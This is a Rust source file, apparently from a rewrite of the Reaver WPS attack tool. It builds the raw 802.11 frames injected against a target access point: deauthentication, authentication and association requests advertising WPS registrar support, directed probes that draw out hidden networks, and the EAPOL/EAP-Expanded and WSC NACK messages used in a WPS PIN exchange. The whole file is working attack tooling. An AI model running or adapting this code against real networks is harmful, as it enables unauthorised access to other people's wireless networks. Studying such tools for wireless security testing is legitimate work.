//! Outgoing frame construction
//!
//! Every injected frame opens with a minimal radiotap header (nothing
//! present) followed by a 24-byte 802.11 header. The builder owns the
//! station-wide sequence counter, so one builder instance serves the
//! whole attack.

use bytes::{BufMut, Bytes, BytesMut};
use reaver_core::{eap, stype, vendor, wps_el, wsc, MacAddr, TargetConfig};

/// Outgoing radiotap header: version, pad, length, empty present bitmap,
/// two trailing pad bytes.
pub const RADIOTAP_LEN: usize = 10;
/// Fixed 802.11 header length
pub const DOT11_LEN: usize = 24;

const DEFAULT_DURATION: u16 = 52;
/// Sequence numbers live in the upper 12 bits of frag_seq
const SEQ_MASK: u16 = 0x10;

/// fc for EAPOL data frames: data type, to-DS
const FC_STANDARD: u16 = 0x0108;

/// Deauthentication reason: station is leaving
const DEAUTH_REASON: [u8; 2] = [0x03, 0x00];

const OPEN_SYSTEM: u16 = 0;
const LISTEN_INTERVAL: u16 = 0x0064;

const LLC_SNAP: u8 = 0xaa;
const UNNUMBERED_FRAME: u8 = 0x03;
const DOT1X_AUTHENTICATION: u16 = 0x888e;
const DOT1X_VERSION: u8 = 0x01;
const DOT1X_START: u8 = 0x01;
const DOT1X_EAP_PACKET: u8 = 0x00;

/// EAP header size: code, id, length, type
const EAP_HEADER_LEN: u16 = 5;
/// WFA expanded header: vendor id, type, opcode, flags
const WFA_HEADER_LEN: u16 = 9;
const SIMPLE_CONFIG: u32 = 0x0000_0001;

/// Fixed WPS IE advertised in association requests: version 1.0,
/// request type registrar.
const WPS_REGISTRAR_TAG: [u8; 14] = [
    0x00, 0x50, 0xf2, 0x04, 0x10, 0x4a, 0x00, 0x01, 0x10, 0x10, 0x3a, 0x00, 0x01, 0x02,
];

/// Fixed tag blobs appended to probe requests
const PROBE_TAG_SUPPORTED_RATES: [u8; 10] =
    [0x01, 0x08, 0x02, 0x04, 0x0b, 0x16, 0x0c, 0x12, 0x18, 0x24];
const PROBE_TAG_EXT_RATES: [u8; 6] = [0x32, 0x04, 0x30, 0x48, 0x60, 0x6c];
const PROBE_TAG_HT_CAPS: [u8; 28] = [
    0x2d, 0x1a, 0x72, 0x01, 0x13, 0xff, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x03, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
];
/// Minimal WPS IE (version 1.0) announcing Simple Config support
const PROBE_TAG_WPS: [u8; 11] =
    [0xdd, 0x09, 0x00, 0x50, 0xf2, 0x04, 0x10, 0x4a, 0x00, 0x01, 0x10];

/// How the EAP payload is framed, keyed on where the WPS exchange stands:
/// identity responses answer the AP's identity request right after
/// EAPOL-Start, everything later rides in EAP-Expanded with a WFA header.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EapFraming {
    Identity,
    Expanded { opcode: u8 },
}

/// Builds all outgoing frames for one attack session.
#[derive(Debug)]
pub struct FrameBuilder<'a> {
    cfg: &'a TargetConfig,
    frag_seq: u16,
    eap_id: u8,
}

impl<'a> FrameBuilder<'a> {
    pub fn new(cfg: &'a TargetConfig) -> Self {
        Self {
            cfg,
            frag_seq: 0,
            eap_id: 0,
        }
    }

    /// Track the EAP identifier the AP last used so responses echo it.
    pub fn set_eap_id(&mut self, id: u8) {
        self.eap_id = id;
    }

    fn put_radiotap(&self, buf: &mut BytesMut) {
        buf.put_u8(0); // revision
        buf.put_u8(0); // pad
        buf.put_u16_le(RADIOTAP_LEN as u16);
        buf.put_u32_le(0); // nothing present
        buf.put_u16_le(0);
    }

    fn put_dot11(&mut self, buf: &mut BytesMut, fc: u16, dest: MacAddr) {
        self.frag_seq = self.frag_seq.wrapping_add(SEQ_MASK);

        buf.put_u16_le(fc);
        buf.put_u16_le(DEFAULT_DURATION);
        buf.put_slice(dest.as_bytes());
        buf.put_slice(self.cfg.own_mac.as_bytes());
        buf.put_slice(dest.as_bytes());
        buf.put_u16_le(self.frag_seq);
    }

    fn put_llc(&self, buf: &mut BytesMut) {
        buf.put_u8(LLC_SNAP);
        buf.put_u8(LLC_SNAP);
        buf.put_u8(UNNUMBERED_FRAME);
        buf.put_slice(&[0x00, 0x00, 0x00]); // org code
        buf.put_u16(DOT1X_AUTHENTICATION);
    }

    fn put_dot1x(&self, buf: &mut BytesMut, kind: u8, payload_len: u16) {
        buf.put_u8(DOT1X_VERSION);
        buf.put_u8(kind);
        buf.put_u16(payload_len);
    }

    fn put_eap_header(&self, buf: &mut BytesMut, code: u8, kind: u8, payload_len: u16) {
        buf.put_u8(code);
        buf.put_u8(self.eap_id);
        buf.put_u16(payload_len + EAP_HEADER_LEN);
        buf.put_u8(kind);
    }

    fn put_wfa_header(&self, buf: &mut BytesMut, opcode: u8) {
        buf.put_slice(&vendor::WFA_ID);
        buf.put_u32(SIMPLE_CONFIG);
        buf.put_u8(opcode);
        buf.put_u8(0); // flags
    }

    fn put_tag(&self, buf: &mut BytesMut, number: u8, data: &[u8]) {
        buf.put_u8(number);
        buf.put_u8(data.len() as u8);
        buf.put_slice(data);
    }

    /// radiotap + dot11 + LLC/SNAP, the common front of every EAPOL frame
    fn put_snap(&mut self, buf: &mut BytesMut) {
        self.put_radiotap(buf);
        self.put_dot11(buf, FC_STANDARD, self.cfg.bssid);
        self.put_llc(buf);
    }

    /// Deauthenticate our station from the AP.
    pub fn deauth(&mut self) -> Bytes {
        let mut buf = BytesMut::with_capacity(RADIOTAP_LEN + DOT11_LEN + 2);
        self.put_radiotap(&mut buf);
        self.put_dot11(&mut buf, stype::DEAUTH, self.cfg.bssid);
        buf.put_slice(&DEAUTH_REASON);
        buf.freeze()
    }

    /// Open-system authentication request.
    pub fn authentication_request(&mut self) -> Bytes {
        let mut buf = BytesMut::with_capacity(RADIOTAP_LEN + DOT11_LEN + 6);
        self.put_radiotap(&mut buf);
        self.put_dot11(&mut buf, stype::AUTH, self.cfg.bssid);
        buf.put_u16_le(OPEN_SYSTEM);
        buf.put_u16_le(1); // transaction sequence
        buf.put_u16_le(0); // status
        buf.freeze()
    }

    /// Association request advertising WPS registrar support. The rates
    /// and HT capabilities replay what the target's beacon carried.
    pub fn association_request(&mut self) -> Bytes {
        let mut buf = BytesMut::with_capacity(128);
        self.put_radiotap(&mut buf);
        self.put_dot11(&mut buf, stype::ASSOC_REQ, self.cfg.bssid);
        buf.put_u16_le(self.cfg.ap_capability);
        buf.put_u16_le(LISTEN_INTERVAL);

        self.put_tag(&mut buf, reaver_core::tag::SSID, self.cfg.ssid_str().as_bytes());
        self.put_tag(&mut buf, reaver_core::tag::SUPPORTED_RATES, &self.cfg.ap_rates);
        self.put_tag(&mut buf, reaver_core::tag::EXT_RATES, &self.cfg.ap_ext_rates);
        if !self.cfg.ap_htcaps.is_empty() {
            self.put_tag(&mut buf, reaver_core::tag::HT_CAPS, &self.cfg.ap_htcaps);
        }
        self.put_tag(&mut buf, reaver_core::tag::VENDOR_SPECIFIC, &WPS_REGISTRAR_TAG);
        buf.freeze()
    }

    /// Probe request. A broadcast destination probes with a wildcard
    /// SSID; a directed probe names the target's SSID to coax hidden
    /// networks into answering.
    pub fn probe_request(&mut self, dest: MacAddr) -> Bytes {
        let ssid = if dest.is_broadcast() {
            ""
        } else {
            self.cfg.ssid_str()
        };

        let mut buf = BytesMut::with_capacity(128);
        self.put_radiotap(&mut buf);
        self.put_dot11(&mut buf, stype::PROBE_REQ, dest);
        self.put_tag(&mut buf, reaver_core::tag::SSID, ssid.as_bytes());
        buf.put_slice(&PROBE_TAG_SUPPORTED_RATES);
        buf.put_slice(&PROBE_TAG_EXT_RATES);
        buf.put_slice(&PROBE_TAG_HT_CAPS);
        buf.put_slice(&PROBE_TAG_WPS);
        buf.freeze()
    }

    /// EAPOL-Start, kicking off the EAP exchange after association.
    pub fn eapol_start(&mut self) -> Bytes {
        let mut buf = BytesMut::with_capacity(RADIOTAP_LEN + DOT11_LEN + 8 + 4);
        self.put_snap(&mut buf);
        self.put_dot1x(&mut buf, DOT1X_START, 0);
        buf.freeze()
    }

    /// EAP response carrying `payload`, framed per the exchange state.
    pub fn eap_packet(&mut self, framing: EapFraming, payload: &[u8]) -> Bytes {
        let wfa_len = match framing {
            EapFraming::Identity => 0,
            EapFraming::Expanded { .. } => WFA_HEADER_LEN,
        };
        let total_payload = payload.len() as u16 + wfa_len;

        let mut buf = BytesMut::with_capacity(
            RADIOTAP_LEN + DOT11_LEN + 8 + 4 + EAP_HEADER_LEN as usize + total_payload as usize,
        );
        self.put_snap(&mut buf);
        self.put_dot1x(&mut buf, DOT1X_EAP_PACKET, total_payload + EAP_HEADER_LEN);

        match framing {
            EapFraming::Identity => {
                self.put_eap_header(&mut buf, eap::RESPONSE, eap::TYPE_IDENTITY, total_payload);
            }
            EapFraming::Expanded { opcode } => {
                self.put_eap_header(&mut buf, eap::RESPONSE, eap::TYPE_EXPANDED, total_payload);
                self.put_wfa_header(&mut buf, opcode);
            }
        }
        buf.put_slice(payload);
        buf.freeze()
    }

    /// EAP-Failure, sent to tear an exchange down.
    pub fn eap_failure(&mut self) -> Bytes {
        let mut buf = BytesMut::with_capacity(RADIOTAP_LEN + DOT11_LEN + 8 + 4 + 5);
        self.put_snap(&mut buf);
        self.put_dot1x(&mut buf, DOT1X_EAP_PACKET, EAP_HEADER_LEN);
        self.put_eap_header(&mut buf, eap::FAILURE, eap::FAILURE, 0);
        buf.freeze()
    }

    /// WSC NACK message, aborting the registration protocol run.
    pub fn wsc_nack(&mut self, enrollee_nonce: &[u8; 16], registrar_nonce: &[u8; 16]) -> Bytes {
        let mut body = BytesMut::with_capacity(64);
        put_wsc_element(&mut body, wps_el::VERSION, &[0x10]);
        put_wsc_element(&mut body, wps_el::MSG_TYPE, &[wsc::NACK]);
        put_wsc_element(&mut body, wps_el::ENROLLEE_NONCE, enrollee_nonce);
        put_wsc_element(&mut body, wps_el::REGISTRAR_NONCE, registrar_nonce);
        put_wsc_element(&mut body, wps_el::CONFIG_ERROR, &[0x00, 0x00]);

        self.eap_packet(EapFraming::Expanded { opcode: wsc::OP_NACK }, &body)
    }
}

fn put_wsc_element(buf: &mut BytesMut, eltype: u16, data: &[u8]) {
    buf.put_u16(eltype);
    buf.put_u16(data.len() as u16);
    buf.put_slice(data);
}
